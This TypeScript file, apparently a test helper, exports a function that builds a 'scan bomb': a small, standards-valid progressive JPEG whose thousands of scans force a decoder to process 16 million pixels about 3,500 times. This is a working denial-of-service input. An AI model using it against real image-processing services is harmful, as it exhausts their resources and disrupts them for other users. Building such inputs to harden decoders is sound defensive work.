/** Packs bits, the first one first, as a scan of a JPEG holds them. */
function entropy(bits: string): Buffer {
  const bytes = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1').match(/.{8}/g) ?? [];
  return Buffer.from(
    bytes.map((byte) => Number.parseInt(byte, 2)).flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])),
  );
}

const segment = (marker: number, ...bytes: number[]) =>
  Buffer.from([0xff, marker, 0, bytes.length + 2, ...bytes]);

/**
 * A grey progressive JPEG, valid by the standard, with a scan of its own for each bit of each coefficient:
 * 180 KB for which a decoder goes over all of 4,000 × 4,000 pixels 3,500 times.
 */
export function scanBomb(): Buffer {
  const side = 4_000;
  const blocks = (side / 8) ** 2;
  const colours = [1, 2, 3, 4];
  const longestRun = 2 ** 15 - 1;
  /** The content of each scan: runs of empty blocks. */
  const nothing = entropy(`0${'1'.repeat(14)}`.repeat(Math.ceil(blocks / longestRun)));
  const scans = colours.flatMap((colour) =>
    Array.from({ length: 63 * 14 }, (_, index) => {
      const [at, bit] = [1 + Math.floor(index / 14), 13 - (index % 14)];
      const before = bit === 13 ? 0 : bit + 1;
      return Buffer.concat([segment(0xda, 1, colour, 0, at, at, before * 16 + bit), nothing]);
    }),
  );
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(
      0xc2,
      8,
      side >> 8,
      side & 255,
      side >> 8,
      side & 255,
      4,
      ...colours.flatMap((colour) => [colour, 0x11, 0]),
    ),
    // A code of one bit each: for a difference of zero, and for a run of empty blocks.
    segment(0xc4, 0x00, 1, ...Array<number>(15).fill(0), 0x00),
    segment(0xc4, 0x10, 1, ...Array<number>(15).fill(0), 0xe0),
    segment(0xda, 4, ...colours.flatMap((colour) => [colour, 0]), 0, 0, 0),
    entropy('0'.repeat(blocks * 4)),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ]);
}
